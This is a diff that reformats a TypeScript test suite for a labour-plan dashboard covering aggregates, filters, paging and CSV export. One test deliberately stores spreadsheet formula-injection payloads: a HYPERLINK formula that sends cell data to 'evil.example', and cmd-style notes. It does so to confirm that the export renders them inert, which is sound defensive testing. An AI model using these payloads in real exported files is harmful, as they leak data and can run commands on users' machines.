@@ -14,15 +14,47 @@ const db = getDb()
 
 async function world() {
   const { user: lead } = await createUserWithSession(db)
-  const palm = await createPlan(db, lead.id, { title: 'Palm oil', countryCode: 'ID', sectors: ['A'], startDate: '2026-01-01', endDate: '2027-12-31' })
-  const port = await createPlan(db, lead.id, { title: 'Port', countryCode: 'MG', sectors: ['A', 'H'], startDate: '2024-01-01', endDate: '2024-12-31' })
-  const insert = (planId: string, kind: string, refPrefix: string, data: Record<string, unknown>) => ItemRepository.insert(db, { planId, kind, refPrefix, data, actorId: lead.id })
+  const palm = await createPlan(db, lead.id, {
+    title: 'Palm oil',
+    countryCode: 'ID',
+    sectors: ['A'],
+    startDate: '2026-01-01',
+    endDate: '2027-12-31',
+  })
+  const port = await createPlan(db, lead.id, {
+    title: 'Port',
+    countryCode: 'MG',
+    sectors: ['A', 'H'],
+    startDate: '2024-01-01',
+    endDate: '2024-12-31',
+  })
+  const insert = (planId: string, kind: string, refPrefix: string, data: Record<string, unknown>) =>
+    ItemRepository.insert(db, { planId, kind, refPrefix, data, actorId: lead.id })
   const issue = await insert(palm.id, 'issue', 'I', { title: 'Casual work', issueType: 'employment_status' })
   const target = await insert(palm.id, 'target', 'T', { name: 'Estates' })
   const pair = await insert(palm.id, 'pair', 'P', { issue: issue.id, target: target.id })
   await insert(palm.id, 'priority_decision', 'PD', { pairs: [pair.id], rationale: 'Highest score' })
-  const k1 = await insert(palm.id, 'indicator', 'K', { name: 'Compliance', indicatorType: 'compliance', unit: 'percent', baselineValue: 38, targetValue: 60 })
-  await MeasurementRepository.insertMany(db, { planId: palm.id, actorId: lead.id, rows: [{ indicatorId: k1.id, period: '2026-Q2', periodEnd: '2026-06-30', value: 44, note: null, evidenceSource: 'Survey' }] })
+  const k1 = await insert(palm.id, 'indicator', 'K', {
+    name: 'Compliance',
+    indicatorType: 'compliance',
+    unit: 'percent',
+    baselineValue: 38,
+    targetValue: 60,
+  })
+  await MeasurementRepository.insertMany(db, {
+    planId: palm.id,
+    actorId: lead.id,
+    rows: [
+      {
+        indicatorId: k1.id,
+        period: '2026-Q2',
+        periodEnd: '2026-06-30',
+        value: 44,
+        note: null,
+        evidenceSource: 'Survey',
+      },
+    ],
+  })
   const { cookie: reviewer } = await createUserWithSession(db, { constituency: 'ilo', globalRole: 'ilo_reviewer' })
   return { palm, port, reviewer }
 }
@@ -43,9 +75,17 @@ describe('the cross-country dashboard', () => {
     const res = await open(reviewer)
     expect(res.data.total).toBe(2)
     const row = res.data.rows.find((r: { id: string }) => r.id === palm.id)
-    expect(row).toMatchObject({ issueTitle: 'Casual work', issueType: 'employment_status', indicators: 1, complianceChange: 6 })
+    expect(row).toMatchObject({
+      issueTitle: 'Casual work',
+      issueType: 'employment_status',
+      indicators: 1,
+      complianceChange: 6,
+    })
     expect(res.data.aggregates).toMatchObject({ plans: 2, complianceChange: 6, plansWithComplianceData: 1 })
-    expect(res.data.aggregates.byIssueType.map((g: { key: string }) => g.key).sort()).toEqual(['employment_status', 'none'])
+    expect(res.data.aggregates.byIssueType.map((g: { key: string }) => g.key).sort()).toEqual([
+      'employment_status',
+      'none',
+    ])
   })
 
   it('filters by country, sector, issue type, status and year, and ignores malformed values', async () => {
@@ -62,18 +102,65 @@ describe('the cross-country dashboard', () => {
 
   it('counts sub-steps complete, indicators on track and workers reached, and groups by country and sector', async () => {
     const { palm, port, reviewer } = await world()
-    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
-    const workers = await ItemRepository.insert(db, { planId: palm.id, kind: 'indicator', refPrefix: 'K', data: { name: 'Workers', indicatorType: 'output', unit: 'count', baselineValue: 0, targetValue: 8000, countsWorkersReached: true }, actorId: lead })
-    await MeasurementRepository.insertMany(db, { planId: palm.id, actorId: lead, rows: [{ indicatorId: workers.id, period: '2026-Q2', periodEnd: '2026-06-30', value: 3100, note: null, evidenceSource: null }] })
-    await ItemRepository.insert(db, { planId: port.id, kind: 'mandate', refPrefix: 'M', data: { name: 'Labour code' }, actorId: lead })
+    const lead = (
+      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
+    ).user_id
+    const workers = await ItemRepository.insert(db, {
+      planId: palm.id,
+      kind: 'indicator',
+      refPrefix: 'K',
+      data: {
+        name: 'Workers',
+        indicatorType: 'output',
+        unit: 'count',
+        baselineValue: 0,
+        targetValue: 8000,
+        countsWorkersReached: true,
+      },
+      actorId: lead,
+    })
+    await MeasurementRepository.insertMany(db, {
+      planId: palm.id,
+      actorId: lead,
+      rows: [
+        {
+          indicatorId: workers.id,
+          period: '2026-Q2',
+          periodEnd: '2026-06-30',
+          value: 3100,
+          note: null,
+          evidenceSource: null,
+        },
+      ],
+    })
+    await ItemRepository.insert(db, {
+      planId: port.id,
+      kind: 'mandate',
+      refPrefix: 'M',
+      data: { name: 'Labour code' },
+      actorId: lead,
+    })
     // Completeness is stored whenever a plan's pages run the progress rules (the overview does so).
     await loadPlanSignoff(db, palm.id)
     await loadPlanSignoff(db, port.id)
     const res = await open(reviewer, '?sort=progress&dir=desc')
     // issue + target (2.1) and pair + decision (2.2) are complete; a lone mandate without a limit is not.
     expect(res.data.rows.map((r: { id: string }) => r.id)).toEqual([palm.id, port.id])
-    expect(res.data.rows[0]).toMatchObject({ substepsComplete: 2, substepsAgreed: 0, indicators: 2, onTrack: 2, workersReached: 3100 })
-    expect(res.data.rows[1]).toMatchObject({ substepsComplete: 0, substepsAgreed: 0, indicators: 0, onTrack: 0, workersReached: 0, complianceChange: null })
+    expect(res.data.rows[0]).toMatchObject({
+      substepsComplete: 2,
+      substepsAgreed: 0,
+      indicators: 2,
+      onTrack: 2,
+      workersReached: 3100,
+    })
+    expect(res.data.rows[1]).toMatchObject({
+      substepsComplete: 0,
+      substepsAgreed: 0,
+      indicators: 0,
+      onTrack: 0,
+      workersReached: 0,
+      complianceChange: null,
+    })
     const a = res.data.aggregates
     expect(a).toMatchObject({ plans: 2, indicators: 2, onTrack: 2, onTrackShare: 1, workersReached: 3100 })
     expect(a.byCountry).toEqual([
@@ -91,7 +178,18 @@ describe('the cross-country dashboard', () => {
     const { reviewer } = await world()
     await db
       .insertInto('plans')
-      .values(Array.from({ length: 51 }, (_, n) => ({ title: `Bulk ${String(n).padStart(2, '0')}`, country_code: 'FJ', region: null, sectors: ['C'], scope: 'national' as const, start_date: '2026-01-01', end_date: '2026-12-31', working_language: 'en' as const })))
+      .values(
+        Array.from({ length: 51 }, (_, n) => ({
+          title: `Bulk ${String(n).padStart(2, '0')}`,
+          country_code: 'FJ',
+          region: null,
+          sectors: ['C'],
+          scope: 'national' as const,
+          start_date: '2026-01-01',
+          end_date: '2026-12-31',
+          working_language: 'en' as const,
+        })),
+      )
       .execute()
     const first = await open(reviewer, '?country=FJ&sort=title&dir=desc')
     expect(first.data).toMatchObject({ total: 51, page: 1, pages: 2 })
@@ -109,22 +207,48 @@ describe('the cross-country dashboard', () => {
     const table = await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))
     expect(table.data).toContain('Palm oil')
     expect(table.data).not.toContain('Port')
-    const measurements = await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))
+    const measurements = await call(() =>
+      measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))),
+    )
     expect(measurements.data.split('\r\n')[1]).toContain('2026-Q2')
   })
 
   it('exports titles and notes that look like formulas as inert text', async () => {
     const { palm, reviewer } = await world()
-    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
+    const lead = (
+      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
+    ).user_id
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
     await db.updateTable('plans').set({ title: evil }).where('id', '=', palm.id).execute()
-    const k = await ItemRepository.insert(db, { planId: palm.id, kind: 'indicator', refPrefix: 'K', data: { name: '+SUM(A1)', indicatorType: 'output', unit: 'other' }, actorId: lead })
+    const k = await ItemRepository.insert(db, {
+      planId: palm.id,
+      kind: 'indicator',
+      refPrefix: 'K',
+      data: { name: '+SUM(A1)', indicatorType: 'output', unit: 'other' },
+      actorId: lead,
+    })
     const notes = ['@SUM(1+1)*cmd|x', '+1+cmd', '-2+3']
-    await MeasurementRepository.insertMany(db, { planId: palm.id, actorId: lead, rows: notes.map((note, n) => ({ indicatorId: k.id, period: `${2026 + n}`, periodEnd: `${2026 + n}-12-31`, value: -3, note, evidenceSource: '\t=1' })) })
-    const table = (await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))).data as string
+    await MeasurementRepository.insertMany(db, {
+      planId: palm.id,
+      actorId: lead,
+      rows: notes.map((note, n) => ({
+        indicatorId: k.id,
+        period: `${2026 + n}`,
+        periodEnd: `${2026 + n}-12-31`,
+        value: -3,
+        note,
+        evidenceSource: '\t=1',
+      })),
+    })
+    const table = (
+      await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))
+    ).data as string
     expect(table).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`)
     expect(table).not.toMatch(/(^|,)"?=HYPERLINK/m)
-    const lines = ((await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))).data as string).split('\r\n')
+    const lines = (
+      (await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer })))))
+        .data as string
+    ).split('\r\n')
     const mine = lines.filter((l) => l.includes('+SUM(A1)'))
     expect(mine).toHaveLength(3)
     for (const [n, line] of mine.entries()) {
@@ -136,12 +260,27 @@ describe('the cross-country dashboard', () => {
 
   it('still answers when measurements recorded before the range check hold the largest doubles', async () => {
     const { palm, port, reviewer } = await world()
-    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
-    const workers = { name: 'Workers', indicatorType: 'output', unit: 'count', baselineValue: 0, targetValue: 8000, countsWorkersReached: true }
+    const lead = (
+      await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()
+    ).user_id
+    const workers = {
+      name: 'Workers',
+      indicatorType: 'output',
+      unit: 'count',
+      baselineValue: 0,
+      targetValue: 8000,
+      countsWorkersReached: true,
+    }
     const huge = 1.7976931348623157e308
     const rows: { plan_id: string; indicator_id: string; period: string; period_end: string; value: number }[] = []
     for (const plan of [palm, port]) {
-      const k = await ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data: workers, actorId: lead })
+      const k = await ItemRepository.insert(db, {
+        planId: plan.id,
+        kind: 'indicator',
+        refPrefix: 'K',
+        data: workers,
+        actorId: lead,
+      })
       rows.push({ plan_id: plan.id, indicator_id: k.id, period: '2026', period_end: '2026-12-31', value: huge })
     }
     // The database refuses such a value now; rows from before the check are kept as they were.
@@ -149,7 +288,9 @@ describe('the cross-country dashboard', () => {
     await db.transaction().execute(async (trx) => {
       await sql`ALTER TABLE measurements DROP CONSTRAINT measurements_value_range`.execute(trx)
       await trx.insertInto('measurements').values(rows).execute()
-      await sql`ALTER TABLE measurements ADD CONSTRAINT measurements_value_range CHECK (value BETWEEN -1e12 AND 1e12) NOT VALID`.execute(trx)
+      await sql`ALTER TABLE measurements ADD CONSTRAINT measurements_value_range CHECK (value BETWEEN -1e12 AND 1e12) NOT VALID`.execute(
+        trx,
+      )
     })
     const res = await open(reviewer)
     expect(res.status).toBe(200)
